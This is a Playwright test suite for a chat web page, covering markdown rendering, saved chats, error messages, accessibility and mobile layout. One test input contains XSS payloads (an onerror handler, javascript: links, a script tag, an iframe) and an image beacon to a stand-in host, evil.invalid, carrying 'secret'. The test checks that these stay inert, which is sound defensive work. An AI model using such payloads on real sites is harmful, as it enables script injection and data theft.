"""The chat page of issue 15 in headless Chromium against the local Worker: markdown and its
safety, reasoning, saved chats, edit/regenerate, trimming, errors in plain words, Escape,
axe-core in both colour schemes, the phone layout. Screenshots of every state go to
test-artifacts/page-*.png."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from conftest import ROOT, Runtime
from playwright.sync_api import Browser, Page, Route, expect

from browser.conftest import ARTIFACTS, BROWSER_MARKS

AXE = ROOT / "node_modules" / "axe-core" / "axe.min.js"

pytestmark = BROWSER_MARKS


@pytest.fixture
def runtime(stateless_runtime: Runtime) -> Runtime:
    """The page without durable conversations (tests/browser/test_page_durable.py: with them)."""
    return stateless_runtime


class Opened:
    """A page on the Worker, with every request it made and every script error it hit."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.requests: list[str] = []
        self.chat_bodies: list[dict[str, Any]] = []
        self.errors: list[str] = []


def open_page(browser: Browser, runtime: Runtime, **context: Any) -> Opened:
    ctx = browser.new_context(**{"viewport": {"width": 1280, "height": 800}, **context})
    opened = Opened(ctx.new_page())
    page = opened.page
    page.on("pageerror", lambda e: opened.errors.append(str(e)))
    page.on("request", lambda r: opened.requests.append(r.url))

    def record(request: Any) -> None:
        if request.url.endswith("/api/v1/chat") and request.method == "POST":
            opened.chat_bodies.append(json.loads(request.post_data or "{}"))

    page.on("request", record)
    page.goto(runtime.url + "/")
    expect(page.locator("#model option").first).to_be_attached()
    page.wait_for_function(
        "document.querySelectorAll('#model option').length > 1 || document.querySelector('#model').value !== ''"
    )
    return opened


@pytest.fixture
def opened(browser: Browser, runtime: Runtime) -> Iterator[Opened]:
    o = open_page(browser, runtime)
    yield o
    o.page.context.close()
    assert o.errors == []


def send(page: Page, text: str) -> None:
    page.fill("#prompt", text)
    page.press("#prompt", "Enter")


def answered(page: Page, n: int, timeout: float = 15000) -> None:
    """Waits until n answers have ended (any outcome)."""
    page.wait_for_function(
        f"document.querySelectorAll('.msg.assistant[data-outcome]').length >= {n}", timeout=timeout
    )


def shot(page: Page, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"page-{name}.png"))


def axe_violations(page: Page) -> list[str]:
    if not page.evaluate("typeof window.axe === 'object'"):
        page.add_script_tag(path=str(AXE))
    found: list[dict[str, Any]] = page.evaluate(
        "async () => (await window.axe.run(document)).violations"
    )
    return [f"{v['id']}: {[n['target'] for n in v['nodes']]}" for v in found]


def fulfill_chat_error(page: Page, status: int, code: str, retry_after: str | None = None) -> None:
    """The next POST /api/v1/chat answers with this error (as the Worker would), then the route is gone."""
    headers = {"content-type": "application/json"}
    if retry_after is not None:
        headers["retry-after"] = retry_after

    def handler(route: Route) -> None:
        route.fulfill(
            status=status,
            headers=headers,
            body=json.dumps({"error": code, "message": f"technical detail for {code}"}),
        )
        page.unroute("**/api/v1/chat", handler)

    page.route("**/api/v1/chat", handler)


MARKDOWN = (
    "[[pace:0]] intro\n\n## Heading two\n\nSome **bold** text and `inline code`.\n\n"
    "```python\ndef double(x):\n    return x * 2\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n"
    '<img src=x onerror="window.pwned=1"> [click me](javascript:window.pwned=2) '
    "![beacon](https://evil.invalid/?q=secret) <script>window.pwned=3</script> "
    '<a href="javascript:window.pwned=4">raw link</a> <iframe src="https://evil.invalid/"></iframe>'
)


def test_without_the_binding_chats_stay_in_the_browser_and_answers_on_the_chat_api(
    opened: Opened, runtime: Runtime
) -> None:
    page = opened.page
    assert page.evaluate("fetch('/api/v1/models').then(r => r.json())")["conversations"] is False
    send(page, "[[pace:0]] kept in this browser")
    answered(page, 1)
    assert [b["messages"][-1]["content"] for b in opened.chat_bodies] == [
        "[[pace:0]] kept in this browser"
    ]
    assert [u for u in opened.requests if "/api/v1/conversations" in u] == []
    assert "kept in this browser" in page.evaluate("localStorage.getItem('ai-chat:v1')")
    assert page.evaluate("localStorage.getItem('ai-chat:conversations:v1')") is None


def test_markdown_renders_and_hostile_output_stays_inert(opened: Opened) -> None:
    page = opened.page
    send(page, MARKDOWN)
    answered(page, 1)
    answer = page.locator(".msg.assistant .text").last
    expect(answer.locator("h2")).to_have_text("Heading two")
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("table td").first).to_have_text("1")
    expect(answer.locator("ul li")).to_have_count(2)
    code = answer.locator(".code-block pre code.hljs")
    expect(code).to_contain_text("def double(x):")
    assert code.locator("span.hljs-keyword").count() >= 1, "the python block is not highlighted"
    expect(answer.locator(".code-block .copy-code")).to_be_visible()
    # Raw HTML shows as text; nothing runs, nothing loads, no script link survives.
    expect(answer).to_contain_text('<img src=x onerror="window.pwned=1">')
    expect(answer).to_contain_text("<script>window.pwned=3</script>")
    expect(answer.locator(".image-blocked")).to_contain_text("beacon")
    assert page.locator("#log img, #log script, #log iframe").count() == 0
    assert page.locator("#log a[href^='javascript' i]").count() == 0
    assert page.evaluate("window.pwned") is None
    assert [u for u in opened.requests if "evil.invalid" in u] == []
    shot(page, "markdown")


def test_copy_button_copies_the_code(browser: Browser, runtime: Runtime) -> None:
    o = open_page(browser, runtime)
    o.page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=runtime.url)
    send(o.page, "[[pace:0]] x\n\n```js\nconst answer = 42;\n```\n\nafter")
    answered(o.page, 1)
    button = o.page.locator(".copy-code").last
    button.click()
    expect(button).to_have_text("Copied")
    assert o.page.evaluate("navigator.clipboard.readText()") == "const answer = 42;\n"
    o.page.context.close()
    assert o.errors == []


def reasoning_model(page: Page) -> str:
    ids: list[str] = page.eval_on_selector_all("#model option", "os => os.map(o => o.value)")
    found = [i for i in ids if "gpt-oss" in i]
    assert found, f"no reasoning (gpt-oss) model offered: {ids}"
    return found[0]


def test_reasoning_shows_as_a_collapsed_thinking_block_with_its_time(opened: Opened) -> None:
    page = opened.page
    page.select_option("#model", reasoning_model(page))
    send(page, "[[pace:40]] [[think:6]] why is the sky blue")
    thinking = page.locator(".msg.assistant .thinking").last
    expect(thinking.locator("summary")).to_have_text("Thinking…")
    shot(page, "thinking-streaming")
    answered(page, 1)
    expect(thinking.locator("summary")).to_have_text(
        re.compile(r"^Thought for (less than a second|[\d.]+ seconds|\d+ min \d+ s)$")
    )
    assert thinking.get_attribute("open") is None, "the thinking block should start collapsed"
    assert thinking.locator(".thinking-text").text_content(), "no reasoning text arrived"
    # Under the model's name, above the answer, and the answer itself is there.
    assert page.evaluate(
        "(() => { const m = [...document.querySelectorAll('.msg.assistant')].pop(); return m.firstElementChild.matches('.by') && m.children[1].matches('.thinking') && m.children[2].matches('.text'); })()"
    )
    expect(page.locator(".msg.assistant .text").last).not_to_have_text("")
    thinking.locator("summary").click()
    shot(page, "thinking-open")


def test_chats_survive_a_reload_and_can_be_switched_and_deleted(opened: Opened) -> None:
    page = opened.page
    send(page, "[[pace:0]] first chat question")
    answered(page, 1)
    page.reload()
    expect(page.locator(".msg.user .text")).to_have_text(["[[pace:0]] first chat question"])
    expect(page.locator(".msg.assistant")).to_have_attribute("data-outcome", "complete")
    page.click("#clear")
    expect(page.locator("#empty")).to_be_visible()
    send(page, "[[pace:0]] second chat question")
    answered(page, 1)
    expect(page.locator("#chat-list .open")).to_have_text(
        ["second chat question", "first chat question"]
    )
    shot(page, "chat-list")
    page.locator("#chat-list .open", has_text="first chat question").click()
    expect(page.locator(".msg.user .text")).to_have_text(["[[pace:0]] first chat question"])
    page.get_by_role("button", name="Delete chat: first chat question").click()
    expect(page.locator("#chat-list .open")).to_have_text(["second chat question"])
    page.reload()
    expect(page.locator("#chat-list .open")).to_have_text(["second chat question"])


def test_edit_and_resend_and_regenerate(opened: Opened) -> None:
    page = opened.page
    send(page, "[[pace:0]] original")
    answered(page, 1)
    send(page, "[[pace:0]] second")
    answered(page, 2)
    page.locator(".msg.user").first.get_by_role("button", name="Edit and resend").click()
    expect(page.locator("#editing")).to_be_visible()
    page.fill("#prompt", "[[pace:0]] edited")
    page.press("#prompt", "Enter")
    answered(page, 1)
    expect(page.locator(".msg.user .text")).to_have_text(["[[pace:0]] edited"])
    expect(page.locator(".msg.assistant .text")).to_contain_text(["You said: edited."])
    assert opened.chat_bodies[-1]["messages"] == [{"role": "user", "content": "[[pace:0]] edited"}]
    page.locator(".msg.assistant").first.get_by_role("button", name="Regenerate answer").click()
    page.wait_for_function("document.querySelectorAll('.msg.assistant[data-outcome]').length === 1")
    assert len(opened.chat_bodies) == 4
    assert opened.chat_bodies[-1] == opened.chat_bodies[-2]


def small_limits(page: Page, **limits: int) -> None:
    """GET /api/v1/models as the Worker answers it, with other limits."""

    def handler(route: Route) -> None:
        response = route.fetch()
        body = response.json()
        body["limits"] = limits
        route.fulfill(response=response, json=body)

    page.route("**/api/v1/models", handler)
    page.reload()
    page.wait_for_function("document.querySelectorAll('#model option').length >= 1")


def test_old_turns_are_trimmed_to_the_limits_and_the_page_says_so(opened: Opened) -> None:
    page = opened.page
    small_limits(page, max_messages=3, max_body_bytes=65536, max_message_chars=60)
    for i in range(3):
        send(page, f"[[pace:0]] turn {i}")
        answered(page, i + 1)
    assert [len(b["messages"]) for b in opened.chat_bodies] == [1, 3, 3]
    assert opened.chat_bodies[-1]["messages"][0] == {"role": "user", "content": "[[pace:0]] turn 1"}
    expect(page.locator(".msg.assistant").last.locator(".note")).to_contain_text(
        "the 2 oldest messages were left out"
    )
    send(page, "x" * 61)
    expect(page.locator("#composer-error")).to_have_text(
        "This message is 61 characters; the service takes at most 60. Shorten it to send it."
    )
    assert len(opened.chat_bodies) == 3, "an over-long message was sent anyway"
    shot(page, "trimmed")


def test_a_rejected_message_is_not_sent_again(opened: Opened) -> None:
    page = opened.page
    fulfill_chat_error(page, 400, "upstream_rejected_input")
    send(page, "[[pace:0]] refused one")
    answered(page, 1)
    expect(page.locator(".msg.user.rejected .note")).to_have_text("Not sent to the model.")
    send(page, "[[pace:0]] fine one")
    answered(page, 2)
    assert opened.chat_bodies[-1]["messages"] == [
        {"role": "user", "content": "[[pace:0]] fine one"}
    ]


ERROR_CASES = [
    (
        429,
        "rate_limited",
        "17",
        "You are sending messages faster than the service allows. Try again in 17 seconds.",
    ),
    (429, "upstream_busy", "5", "The AI model is busy right now. Try again in 5 seconds."),
    (
        429,
        "upstream_quota_exceeded",
        "7200",
        "Today's AI allowance for this service is used up. Try again in about 2 hours.",
    ),
    (401, "unauthorized", None, "This chat service needs a key that this page does not have."),
    (400, "context_length_exceeded", None, "The conversation is too long for this model to read."),
    (
        400,
        "message_too_long",
        None,
        "Your message is longer than the service takes (8,000 characters).",
    ),
    (502, "model_unavailable", None, "This model is not available right now."),
    (503, "ai_unavailable", None, "The chat is turned off for now. Try again later."),
    (500, "server_misconfigured", None, "The chat service is not set up correctly"),
]


@pytest.mark.parametrize(
    ("status", "code", "retry_after", "words"), ERROR_CASES, ids=[c[1] for c in ERROR_CASES]
)
def test_errors_in_plain_words(
    opened: Opened, status: int, code: str, retry_after: str | None, words: str
) -> None:
    page = opened.page
    if code == "message_too_long":  # the limit the service announces, whatever its default
        limit = page.evaluate(
            "fetch('/api/v1/models').then((r) => r.json()).then((j) => j.limits.max_message_chars)"
        )
        words = words.replace("8,000", f"{limit:,}")
    fulfill_chat_error(page, status, code, retry_after)
    send(page, "[[pace:0]] hello")
    answered(page, 1)
    note = page.locator(".msg.assistant.error .note").last
    expect(note).to_contain_text(words)
    assert code not in (note.inner_text().split("Details")[0]), (
        "the code name leaked into the plain words"
    )


def test_real_failures_from_the_model_in_plain_words_and_retry(opened: Opened) -> None:
    page = opened.page
    send(page, "[[fault:midstream]] [[pace:5]] boom")
    answered(page, 1)
    failed = page.locator(".msg.assistant.error").last
    expect(failed).to_have_attribute("data-outcome", "failed")
    expect(failed.locator(".note")).to_contain_text(
        "The AI model could not answer this time. Try again."
    )
    shot(page, "error")
    send(page, "[[fault:throw]] now")
    answered(page, 2)
    expect(page.locator(".msg.assistant.error .note").last).to_contain_text("Try again")
    page.locator(".msg.assistant.error .retry").last.click()
    answered(page, 2)
    assert opened.chat_bodies[-1] == opened.chat_bodies[-2]


def test_escape_stops_the_answer(opened: Opened) -> None:
    page = opened.page
    send(page, "[[pace:150]] [[tokens:200]] long")
    expect(page.locator("#stop")).to_be_visible()
    expect(page.locator(".msg.assistant .text").last).not_to_have_text("")
    shot(page, "streaming")
    page.keyboard.press("Escape")
    expect(page.locator(".msg.assistant").last).to_have_attribute("data-outcome", "aborted")
    expect(page.locator(".msg.assistant .note").last).to_have_text("Stopped.")
    expect(page.locator("#stop")).to_be_hidden()
    expect(page.locator("#send")).to_be_enabled()


def test_the_answer_is_announced_once_not_per_token(opened: Opened) -> None:
    page = opened.page
    assert page.locator("[aria-live]").count() == 1, "only the announcer may be a live region"
    page.evaluate(
        "window.__announced = []; new MutationObserver(() => window.__announced.push(document.getElementById('announcer').textContent))"
        ".observe(document.getElementById('announcer'), { childList: true, characterData: true, subtree: true })"
    )
    send(page, "[[pace:10]] [[tokens:40]] count")
    answered(page, 1)
    page.wait_for_function("window.__announced.some(t => t.startsWith('Answer: '))")
    said: list[str] = [t for t in page.evaluate("window.__announced") if t]
    assert said == ["Answer: " + page.locator(".msg.assistant .text").last.inner_text().strip()], (
        said
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_empty_streaming_and_failed(
    browser: Browser, runtime: Runtime, scheme: str
) -> None:
    o = open_page(browser, runtime, color_scheme=scheme)
    page = o.page
    assert axe_violations(page) == [], "empty"
    shot(page, f"{scheme}-empty")
    send(page, MARKDOWN)
    answered(page, 1)
    send(page, "[[pace:200]] [[tokens:100]] slow")
    expect(page.locator(".msg.assistant.streaming .text")).not_to_have_text("")
    assert axe_violations(page) == [], "streaming"
    shot(page, f"{scheme}-streaming")
    page.keyboard.press("Escape")
    answered(page, 2)
    send(page, "[[fault:midstream]] [[pace:0]] fail")
    answered(page, 3)
    fulfill_chat_error(page, 429, "rate_limited", "30")
    send(page, "[[pace:0]] again")
    answered(page, 4)
    assert axe_violations(page) == [], "failed"
    shot(page, f"{scheme}-error")
    page.context.close()
    assert o.errors == []


def test_phone_layout_keeps_one_header_row_and_a_usable_input(
    browser: Browser, runtime: Runtime
) -> None:
    o = open_page(
        browser, runtime, viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True
    )
    page = o.page
    rows = "[...document.querySelector('header').children].filter(c => c.offsetParent && c.offsetWidth > 1).map(c => { const r = c.getBoundingClientRect(); return [r.top, r.bottom]; })"
    boxes: list[list[float]] = page.evaluate(rows)
    tops, bottoms = [b[0] for b in boxes], [b[1] for b in boxes]
    assert max(tops) < min(bottoms), f"header wraps: {boxes}"
    send(page, "[[pace:100]] [[tokens:100]] " + "averyveryverylongwordwithoutanyspaces" * 3)
    expect(page.locator("#stop")).to_be_visible()
    prompt = page.locator("#prompt").bounding_box()
    assert prompt is not None and prompt["width"] >= 0.6 * 390, (
        f"the input is squeezed while streaming: {prompt}"
    )
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    shot(page, "phone-streaming")
    page.click("#stop")
    answered(page, 1)
    page.click("#menu")
    expect(page.locator("#chats")).to_be_visible()
    shot(page, "phone-chats")
    assert axe_violations(page) == []
    page.context.close()
    assert o.errors == []


def test_favicon_is_served(opened: Opened, runtime: Runtime) -> None:
    for path, kind in [("/favicon.ico", "image/"), ("/favicon.svg", "image/svg")]:
        response = opened.page.request.get(runtime.url + path)
        assert response.status == 200, path
        assert response.headers.get("content-type", "").startswith(kind), (path, response.headers)


def test_a_4000_token_answer_rendered_per_token_reads_as_the_whole_answer(opened: Opened) -> None:
    """One render per token (the worst case: the page renders at most once per frame) against
    re-rendering the whole answer per token; prints both times, bounds neither (issue 44: what
    a frame draws is counted in test_page_long.py; speed is the bench's)."""
    result: dict[str, Any] = opened.page.evaluate(
        """async () => {
          const { StreamingMarkdown, renderMarkdown } = await import('/markdown.js');
          const block = '## Step\\n\\nSome **words** with `code` in a paragraph that goes on.\\n\\n```python\\ndef f(x):\\n    return x * 2\\n```\\n\\n| a | b |\\n|---|---|\\n| 1 | 2 |\\n\\n- one\\n- two\\n\\n';
          let text = ''; while ((text.match(/\\s*\\S+/g) ?? []).length < 4000) text += block;
          const tokens = text.match(/\\s*\\S+/g).slice(0, 4000);
          const a = document.createElement('div'), b = document.createElement('div');
          document.body.append(a, b);
          const md = new StreamingMarkdown(a);
          let t = performance.now();
          for (const tok of tokens) { md.append(tok); md.flush(); }
          md.finish();
          const incremental = performance.now() - t;
          let acc = ''; t = performance.now();
          for (const tok of tokens.slice(0, 1000)) { acc += tok; b.replaceChildren(renderMarkdown(acc, { highlight: false })); }
          const whole1000 = performance.now() - t;
          b.replaceChildren(renderMarkdown(tokens.join('')));
          return { incremental, whole1000, same: a.innerText === b.innerText };
        }"""
    )
    print(
        f"\n4,000-token answer rendered per token: {result['incremental']:.0f} ms; "
        f"re-rendering the whole answer per token, first 1,000 tokens only: {result['whole1000']:.0f} ms"
    )
    assert result["same"], "the streamed rendering differs from rendering the whole answer"
